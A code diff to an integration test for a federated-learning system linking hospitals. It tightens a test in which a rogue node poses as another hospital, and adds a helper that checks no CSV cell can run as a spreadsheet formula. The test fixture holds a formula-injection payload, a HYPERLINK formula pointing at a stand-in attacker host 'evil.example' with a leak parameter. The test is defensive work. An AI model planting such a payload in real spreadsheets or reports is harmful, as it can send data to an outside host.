@@ -25,8 +25,9 @@ leaves nothing behind. The tests run in order and share the deployment:
 6. a run outside a hospital's policy is refused by that hospital, and the report
    says why;
 7. a registered hospital that replies under another hospital's name (a spreadsheet
-   formula) is reported under its own registered name, and what it claimed lands
-   nowhere in the report;
+   formula) is reported under its own registered name: what it claimed is never a
+   name in the report, text it sent is quoted after its registered name, and no CSV
+   cell can run;
 8. a hospital removed with ``fedcare ca remove-hospital`` is refused at its next
    request, and cannot come back;
 9. everything in the aggregator's state is owner-only, although the folder existed,
@@ -79,7 +80,7 @@ ROGUE = "hospital-4"
 POSED_AS = "hospital-2"
 FORMULA = f'=HYPERLINK("https://evil.example/?leak","{POSED_AS}")'
 MARKER = "fedcare-trust-marker"
-MAX_ROUNDS = 2
+MAX_ROUNDS = 1
 """hospital-2's policy: runs of at most this many rounds."""
 ROUND_TIMEOUT = 90
 """Every one-round run uses it, so the run hospital-1 approved is the outsider-attacked one too."""
@@ -411,6 +412,15 @@ def _rogue_node_config(federation: LocalFederation) -> Path:
     return path
 
 
+def _could_run(cell: str) -> bool:
+    """Whether a spreadsheet would read ``cell`` as a formula (a negative number would not)."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell.startswith(FORMULA_STARTS)
+    return False
+
+
 def test_a_registered_node_posing_as_another_hospital_is_reported_as_itself(
     federation: LocalFederation,
 ) -> None:
@@ -450,9 +460,15 @@ def test_a_registered_node_posing_as_another_hospital_is_reported_as_itself(
     reported = json.loads((out / "metrics.json").read_text())["rounds"][-1]["hospitals"]
     assert sorted(reported) == taking_part
     assert reported[ROGUE]["num_train_examples"] != reported[POSED_AS]["num_train_examples"]
+    # What it claimed is never a name: text it sent (a refusal quoting its claimed
+    # name) is quoted only after its registered name, and no CSV cell can run.
     for path in out.rglob("*"):
-        if path.is_file() and path.suffix in (".json", ".jsonl", ".csv"):
-            assert "HYPERLINK" not in path.read_text(), path
+        if path.is_file() and path.suffix in (".json", ".jsonl", ".md"):
+            for line in path.read_text().splitlines():
+                assert "HYPERLINK" not in line or f"{ROGUE}: " in line, (path, line)
+    for path in out.rglob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text())):
+            assert not any(_could_run(cell) for cell in row), (path, row)
     table = csv.DictReader(io.StringIO((out / "metrics.csv").read_text()))
     scopes = [row["scope"] for row in table]
     assert scopes.count(POSED_AS) == 1 and ROGUE in scopes
